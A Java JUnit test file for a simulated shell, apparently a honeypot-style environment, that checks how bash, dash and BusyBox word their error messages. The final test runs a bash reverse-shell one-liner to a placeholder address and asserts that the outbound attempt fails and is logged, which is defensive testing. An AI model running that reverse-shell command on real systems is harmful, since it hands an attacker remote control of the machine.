package org.sundew.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import org.junit.jupiter.api.Test;

/** Which shell complains of what in which line: recorded of bash 5.2, dash 0.5.12 and BusyBox 1.35. */
class WordingTest {
    private static String errors(Machine machine, String command) {
        Booth booth = Booth.without(machine, "root");
        booth.shell().execute(command, "");
        return booth.elapse(Duration.ofMinutes(1)).errors();
    }

    @Test
    void bashCountsTheLinesOfItsCommand() {
        String command = "echo a\nnosuch1\necho \"x\ny\"; nosuch2\ncat <<EOF\nl1\nEOF\nnosuch3\nf() {\n nosuch4\n}\nf\n"
                + "eval 'nosuch5\nnosuch6'\necho $(nosuch7) $LINENO";

        assertThat(errors(Booth.DEBIAN, command)).isEqualTo("""
                bash: line 2: nosuch1: command not found
                bash: line 4: nosuch2: command not found
                bash: line 8: nosuch3: command not found
                environment: line 10: nosuch4: command not found
                bash: line 14: nosuch5: command not found
                bash: line 15: nosuch6: command not found
                bash: line 15: nosuch7: command not found
                """);
    }

    @Test
    void dashCountsThemInItsOwnWords() {
        assertThat(errors(
                        Booth.DEBIAN,
                        "sh -c 'true\nnosuch \"a\nb\"\n[ a b ]\n[[ a ]]\ncd /nosuch\n< /nosuch\n> /nosuch/x'"))
                .isEqualTo("""
                        sh: 2: nosuch: not found
                        sh: 4: [: a: unexpected operator
                        sh: 5: [[: not found
                        sh: 6: cd: can't cd to /nosuch
                        sh: 7: cannot open /nosuch: No such file
                        sh: 8: cannot create /nosuch/x: Directory nonexistent
                        """);
    }

    @Test
    void aScriptIsNamedAndRunByTheShellOfItsFirstLine() {
        String script = "printf '#!/bin/%s\\n\\nnosuch\\necho a ) b\\n' %s > /tmp/x; chmod +x /tmp/x; /tmp/x";

        assertThat(errors(Booth.DEBIAN, script.formatted("%s", "bash"))).isEqualTo("""
                /tmp/x: line 3: nosuch: command not found
                /tmp/x: line 4: syntax error near unexpected token `)'
                /tmp/x: line 4: `echo a ) b'
                """);
        assertThat(errors(Booth.DEBIAN, script.formatted("%s", "sh"))).isEqualTo("""
                /tmp/x: 3: nosuch: not found
                /tmp/x: 4: Syntax error: ")" unexpected
                """);
        assertThat(errors(Booth.ROUTER, script.formatted("%s", "sh"))).isEqualTo("""
                /tmp/x: line 3: nosuch: not found
                /tmp/x: line 4: syntax error: unexpected ")"
                """);
    }

    @Test
    void whatIsTypedHasNoLineButInDash() {
        Booth booth = Booth.at(Booth.DEBIAN, "root");

        assertThat(booth.shown("nosuch")).isEqualTo("-bash: nosuch: command not found\n");
        assertThat(booth.shown("[ 1 2 ]; )")).isEqualTo("-bash: syntax error near unexpected token `)'\n");
        booth.type("sh").type("true").read();
        assertThat(booth.shown("nosuch")).isEqualTo("sh: 2: nosuch: not found\n");
        booth.type("exit").type("bash").read();
        assertThat(booth.shown("nosuch")).isEqualTo("bash: nosuch: command not found\n");
    }

    @Test
    void carriesOutTheLinesBeforeTheOneThatIsWrong() {
        Booth booth = Booth.without(Booth.DEBIAN, "root");
        booth.shell().execute("echo one\nif", "");

        assertThat(booth.read()).isEqualTo("one\nbash: -c: line 3: syntax error: unexpected end of file\n");
    }

    @Test
    void busyboxOpensInItsOwnWords() {
        assertThat(errors(Booth.ROUTER, "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s"))
                .isEqualTo("""
                        dd: can't open '.s': No such file or directory
                        cat: can't open '.s': No such file or directory
                        ash: can't open .s: no such file
                        """);
    }

    @Test
    void dashHasAnEchoOfItsOwnAndProgramsHaveTheirs() {
        assertThat(
                        Booth.root(
                                "sh -c 'echo -e \"a\\tb\"; echo -n x; /bin/echo -ne \"\\x41\"; /bin/busybox echo -ne \"\\x42\\n\"'"))
                .isEqualTo("-e a\tb\nxAB\n");
    }

    @Test
    void theEndIsTrapped() {
        assertThat(Booth.root("sh -c 'trap \"echo bye\" EXIT; echo hi; exit 2'; echo $?"))
                .isEqualTo("hi\nbye\n2\n");
    }

    @Test
    void aStrictShellEndsWithTheFirstFailureThatNothingAsksOf() {
        assertThat(Booth.root("sh -c 'set -e; false || true; if false; then :; fi; echo on; false; echo never'"))
                .isEqualTo("on\n");
    }

    @Test
    void aProgramSeesOnlyWhatIsExported() {
        assertThat(Booth.root("A=1; export B=2; sh -c 'echo [$A$B]'; C=3 sh -c 'echo $C'; sh -c 'echo [$C]'"))
                .isEqualTo("[2]\n3\n[]\n");
    }

    @Test
    void dialsNobodyAndTellsOfIt() {
        Booth booth = Booth.without(Booth.DEBIAN, "root");
        booth.shell().execute("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", "");
        booth.elapse(Duration.ofMinutes(1));

        assertThat(booth.errors()).isEqualTo("""
                bash: connect: Connection timed out
                bash: line 1: /dev/tcp/192.0.2.9/4444: Connection timed out
                """);
        assertThat(booth.actions()).contains("outbound");
    }
}
